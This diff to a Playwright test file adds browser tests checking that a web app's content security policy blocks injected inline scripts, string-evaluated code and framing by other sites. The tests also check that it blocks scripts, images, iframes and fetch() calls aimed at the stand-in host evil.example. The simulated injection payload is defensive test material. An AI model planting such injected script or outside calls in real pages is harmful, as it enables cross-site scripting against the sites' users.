@@ -84,3 +84,40 @@ def test_what_was_set_while_the_server_was_away_stands_in_the_address(browser: B
             page.wait_for_url(re.compile(r"nc=80"), timeout=60_000)
             assert slider(page).input_value() == "80"
         page.close()
+
+
+INJECTED = """() => new Promise(tell => {
+  const blocked = []
+  document.addEventListener("securitypolicyviolation", event => {
+    blocked.push(event.effectiveDirective)
+  })
+  setTimeout(() => tell({ blocked: [...new Set(blocked)].sort(), ran: window.injected ?? "no" }), 1000)
+  const script = document.createElement("script")
+  script.textContent = "window.injected = 'inline'"
+  const foreign = document.createElement("script")
+  foreign.src = "https://evil.example/x.js"
+  const picture = document.createElement("img")
+  picture.src = "https://evil.example/x.png"
+  const frame = document.createElement("iframe")
+  frame.src = "https://evil.example/"
+  document.body.append(script, foreign, picture, frame)
+  fetch("https://evil.example/").catch(() => {})
+  setTimeout("window.injected = 'text'")
+})"""
+
+
+def test_what_gets_into_a_page_all_the_same_neither_runs_nor_calls_out(watched: Watched) -> None:
+    """The second wall, behind the escaping: the content security policy."""
+    page = watched.open("what_if")
+    result = page.evaluate(INJECTED)
+    assert result == {
+        "blocked": ["connect-src", "frame-src", "img-src", "script-src", "script-src-elem"],
+        "ran": "no",
+    }
+
+
+def test_nobody_else_may_frame_a_page(watched: Watched) -> None:
+    page = watched.page
+    with page.expect_console_message(lambda said: "frame-ancestors" in said.text, timeout=30_000):
+        page.set_content(f"<iframe src='{watched.base}/what_if'></iframe>")
+    assert page.frames[1].url.startswith("chrome-error:")
